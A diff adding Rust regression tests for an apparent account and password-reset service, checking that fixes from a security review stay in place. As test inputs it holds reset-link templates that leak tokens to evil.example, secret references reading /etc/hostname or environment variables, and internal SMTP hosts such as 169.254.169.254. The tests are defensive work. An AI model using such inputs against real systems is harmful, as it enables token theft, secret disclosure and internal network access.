@@ -1,0 +1,430 @@
+//! Regressions for the findings of the first security review: each test fails if its fix is
+//! undone. On SQLite and PostgreSQL.
+
+mod common;
+
+use common::{Backend, TestApp, GOOD_PASSWORD, OTHER_PASSWORD};
+use latchkey::domain::{DisplayName, EmailAddress, Role, TenantSlug};
+use latchkey::mail::{Security, SmtpSettings};
+use latchkey::service::{AccountChanges, Actor, SmtpInput};
+use latchkey::store;
+use secrecy::SecretString;
+
+on_both_backends!(
+    only_system_admins_change_a_tenants_public_url,
+    templates_cannot_send_secrets_elsewhere,
+    tenant_admins_cannot_reset_system_admins,
+    a_temporary_password_only_chooses_a_new_one,
+    unknown_and_known_identifiers_are_throttled_alike,
+    the_console_refuses_secret_references_and_silent_downgrades,
+    tenant_smtp_cannot_target_internal_hosts,
+);
+
+async fn only_system_admins_change_a_tenants_public_url(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let t = app.default_tenant().await;
+    app.user_with(&t, "boss", GOOD_PASSWORD, Role::TenantAdmin)
+        .await;
+    app.user_with(&t, "root", GOOD_PASSWORD, Role::SystemAdmin)
+        .await;
+    let settings = |url: &'static str| {
+        vec![
+            ("password_reset", "on"),
+            ("reset_link_ttl", "30m"),
+            ("min_password_length", "15"),
+            ("admin_reset_delay", "10m"),
+            ("default_language", "en"),
+            ("public_url", url),
+        ]
+    };
+    let mut boss = app.browser();
+    boss.login("default", "boss", GOOD_PASSWORD).await;
+    boss.get("/t/default/admin/settings").await;
+    let r = boss
+        .post(
+            "/t/default/admin/settings",
+            &settings("https://evil.example"),
+        )
+        .await;
+    assert_eq!(r.status, 422, "{}", r.body);
+    assert!(
+        r.body
+            .contains("Only a system administrator can change the public URL"),
+        "{}",
+        r.body.split("<main").nth(1).unwrap_or("")
+    );
+    assert_eq!(app.core.tenant("default").await.unwrap().public_url, None);
+    // Other settings still save for the tenant admin.
+    assert_eq!(
+        boss.post("/t/default/admin/settings", &settings(""))
+            .await
+            .status,
+        303
+    );
+    assert!(
+        app.core
+            .tenant("default")
+            .await
+            .unwrap()
+            .settings
+            .password_reset_enabled
+    );
+    let mut root = app.browser();
+    root.login("default", "root", GOOD_PASSWORD).await;
+    root.get("/t/default/admin/settings").await;
+    assert_eq!(
+        root.post(
+            "/t/default/admin/settings",
+            &settings("https://id.example.org")
+        )
+        .await
+        .status,
+        303
+    );
+    assert_eq!(
+        app.core
+            .tenant("default")
+            .await
+            .unwrap()
+            .public_url
+            .as_deref(),
+        Some("https://id.example.org")
+    );
+    let events = store::audit::list(&app.core.db, None, 20).await.unwrap();
+    assert!(
+        events
+            .iter()
+            .any(|e| e.action == "tenant.updated" && e.detail.contains("https://id.example.org")),
+        "the URL change is audited"
+    );
+    app.stop().await;
+}
+
+async fn templates_cannot_send_secrets_elsewhere(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let t = app.default_tenant().await;
+    app.user_with(&t, "boss", GOOD_PASSWORD, Role::TenantAdmin)
+        .await;
+    let mut b = app.browser();
+    b.login("default", "boss", GOOD_PASSWORD).await;
+    b.get("/t/default/admin/templates/reset_link/en").await;
+    for html in [
+        "<p><img src=\"https://evil.example/{{ reset_link }}\"></p><p>{{ reset_link }}</p>",
+        "<p><a href=\"https://evil.example/?t={{ reset_link }}\">x</a></p>",
+    ] {
+        let r = b
+            .post(
+                "/t/default/admin/templates/reset_link/en",
+                &[
+                    ("subject", "Reset"),
+                    ("text_body", "{{ reset_link }}"),
+                    ("html_body", html),
+                    ("action", "save"),
+                ],
+            )
+            .await;
+        assert_eq!(r.status, 422, "{html}");
+        assert!(store::templates::get(
+            &app.core.db,
+            t.id,
+            latchkey::mail::templates::MailKind::ResetLink,
+            latchkey::domain::Language::En
+        )
+        .await
+        .unwrap()
+        .is_none());
+    }
+    app.stop().await;
+}
+
+async fn tenant_admins_cannot_reset_system_admins(backend: Backend) {
+    let app = TestApp::spawn_with(backend, |c| c.mail_worker = false).await;
+    let t = app.default_tenant().await;
+    app.user_with(&t, "boss", GOOD_PASSWORD, Role::TenantAdmin)
+        .await;
+    app.user_with(&t, "root", GOOD_PASSWORD, Role::SystemAdmin)
+        .await;
+    app.user(&t, "bob", GOOD_PASSWORD).await;
+    let mut b = app.browser();
+    b.login("default", "boss", GOOD_PASSWORD).await;
+    b.get("/t/default/admin/resets/new").await;
+    let r = b
+        .post(
+            "/t/default/admin/resets",
+            &[
+                ("identifiers", "root"),
+                ("kind", "temporary_password"),
+                ("valid_for", "1h"),
+                ("when", "now"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 422);
+    assert!(
+        r.body
+            .contains("only a system administrator may reset a system administrator"),
+        "{}",
+        r.body
+    );
+    let r = b
+        .post(
+            "/t/default/admin/resets",
+            &[
+                ("identifiers", "root\nbob"),
+                ("kind", "temporary_password"),
+                ("valid_for", "1h"),
+                ("when", "now"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 303);
+    let campaign = store::campaigns::list(&app.core.db, t.id, 1, 0)
+        .await
+        .unwrap()[0]
+        .id;
+    let skipped = store::campaigns::skipped(&app.core.db, campaign)
+        .await
+        .unwrap();
+    assert_eq!(skipped.len(), 1);
+    assert_eq!(skipped[0].identifier, "root");
+    let tasks = store::mail::list(
+        &app.core.db,
+        &store::mail::Filter {
+            campaign_id: Some(campaign),
+            limit: 10,
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
+    assert_eq!(tasks.len(), 1);
+    assert_eq!(tasks[0].recipient, "bob@example.org");
+    app.stop().await;
+}
+
+async fn a_temporary_password_only_chooses_a_new_one(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let t = app.default_tenant().await;
+    let bob = app.user(&t, "bob", GOOD_PASSWORD).await;
+    let temp = "abcde-fghjk-mnpqr-stuvw";
+    let hash = app
+        .core
+        .hasher
+        .hash(SecretString::from(temp.to_owned()))
+        .await
+        .unwrap();
+    store::accounts::set_temporary_password(
+        &app.core.db,
+        bob.id,
+        &hash,
+        app.core.now() + 3600,
+        app.core.now(),
+    )
+    .await
+    .unwrap();
+    let mut b = app.browser();
+    assert_eq!(b.login("default", "bob", temp).await.status, 303);
+    let r = b
+        .post(
+            "/t/default/account/reset-email",
+            &[
+                ("reset_email", "attacker@evil.example"),
+                ("current_password", temp),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 422);
+    assert!(r.body.contains("Choose a new password first"));
+    assert_eq!(
+        app.core
+            .account_by_username(&t, "bob")
+            .await
+            .unwrap()
+            .reset_email,
+        None
+    );
+    let r = b
+        .post(
+            "/t/default/account/password",
+            &[
+                ("current_password", temp),
+                ("new_password", OTHER_PASSWORD),
+                ("confirm_password", OTHER_PASSWORD),
+            ],
+        )
+        .await;
+    assert_eq!(r.status, 303);
+    app.stop().await;
+}
+
+async fn unknown_and_known_identifiers_are_throttled_alike(backend: Backend) {
+    let app = TestApp::spawn_with(backend, |c| c.login_failures_per_account_per_hour = 3).await;
+    let t = app.default_tenant().await;
+    app.user(&t, "alice", GOOD_PASSWORD).await; // alice@example.org exists; bob@example.org doesn't
+    let mut b = app.browser();
+    // Three failures on a case variant that matches nobody (the local part is case-sensitive)…
+    for who in ["Alice@example.org", "Bob@example.org"] {
+        for _ in 0..3 {
+            assert_eq!(
+                b.login("default", who, "wrong wrong wrong wrong")
+                    .await
+                    .status,
+                401
+            );
+        }
+    }
+    // …say nothing about whether the lowercase address exists: both answer 401, not 429.
+    assert_eq!(
+        b.login("default", "alice@example.org", "wrong wrong wrong wrong")
+            .await
+            .status,
+        401
+    );
+    assert_eq!(
+        b.login("default", "bob@example.org", "wrong wrong wrong wrong")
+            .await
+            .status,
+        401
+    );
+    // Username case variants are one identifier, known or not.
+    for who in ["CAROL", "carol", "Carol"] {
+        assert_eq!(
+            b.login("default", who, "wrong wrong wrong wrong")
+                .await
+                .status,
+            401
+        );
+    }
+    assert_eq!(
+        b.login("default", "carol", "wrong wrong wrong wrong")
+            .await
+            .status,
+        429
+    );
+    app.stop().await;
+}
+
+async fn the_console_refuses_secret_references_and_silent_downgrades(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let admin = Actor::Account {
+        id: 1,
+        label: "root@default".into(),
+    };
+    let settings = SmtpSettings {
+        enabled: true,
+        host: "smtp.example.org".into(),
+        port: 587,
+        security: Security::Starttls,
+        auth: true,
+        username: "mailer".into(),
+        from_address: "noreply@example.org".into(),
+        ..SmtpSettings::default()
+    };
+    let input = |s: &SmtpSettings, pw: Option<&str>| SmtpInput {
+        settings: s.clone(),
+        new_password: pw.map(|p| SecretString::from(p.to_owned())),
+    };
+    for reference in ["file:/etc/hostname", "env:LATCHKEY_TEST_DATABASE_URL"] {
+        let err = app
+            .core
+            .save_smtp(&admin, None, input(&settings, Some(reference)), None)
+            .await
+            .unwrap_err();
+        assert!(err.to_string().contains("References"), "{err}");
+    }
+    // The operator may.
+    app.core
+        .save_smtp(
+            &Actor::Cli,
+            None,
+            input(&settings, Some("env:SMTP_PW")),
+            None,
+        )
+        .await
+        .unwrap();
+    app.core
+        .save_smtp(
+            &admin,
+            None,
+            input(&settings, Some("a-real-password")),
+            None,
+        )
+        .await
+        .unwrap();
+    // Same host and port, but no encryption (or another CA): the password must be typed again.
+    let plain = SmtpSettings {
+        security: Security::None,
+        ..settings.clone()
+    };
+    let err = app
+        .core
+        .save_smtp(&admin, None, input(&plain, None), None)
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("enter the password again"),
+        "{err}"
+    );
+    let other_ca = SmtpSettings {
+        extra_ca_pem: "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----".into(),
+        ..settings.clone()
+    };
+    let err = app
+        .core
+        .save_smtp(&admin, None, input(&other_ca, None), None)
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("enter the password again"),
+        "{err}"
+    );
+    app.stop().await;
+}
+
+async fn tenant_smtp_cannot_target_internal_hosts(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let acme = app
+        .core
+        .create_tenant(
+            &Actor::Cli,
+            &TenantSlug::parse("acme").unwrap(),
+            Some(&DisplayName::parse("Acme").unwrap()),
+            None,
+        )
+        .await
+        .unwrap();
+    let boss = app
+        .user_with(&acme, "boss", GOOD_PASSWORD, Role::TenantAdmin)
+        .await;
+    let changes = AccountChanges {
+        reset_email: Some(Some(EmailAddress::parse("boss@example.net").unwrap())),
+        ..Default::default()
+    };
+    app.core
+        .update_account(&Actor::Cli, &acme, boss, changes)
+        .await
+        .unwrap();
+    let mut b = app.browser();
+    b.login("acme", "boss", GOOD_PASSWORD).await;
+    b.get("/t/acme/admin/smtp").await;
+    for host in ["127.0.0.1", "localhost", "10.1.2.3", "169.254.169.254"] {
+        let r = b
+            .post(
+                "/t/acme/admin/smtp",
+                &[
+                    ("enabled", "on"),
+                    ("host", host),
+                    ("port", "25"),
+                    ("security", "none"),
+                    ("from_address", "noreply@acme.example"),
+                    ("timeout_secs", "3"),
+                    ("action", "check"),
+                ],
+            )
+            .await;
+        assert_eq!(r.status, 422, "{host}");
+        assert!(r.body.contains("internal address"), "{host}: {}", r.body);
+    }
+    assert!(app.core.tenant_smtp(&acme).await.unwrap().is_none());
+    app.stop().await;
+}
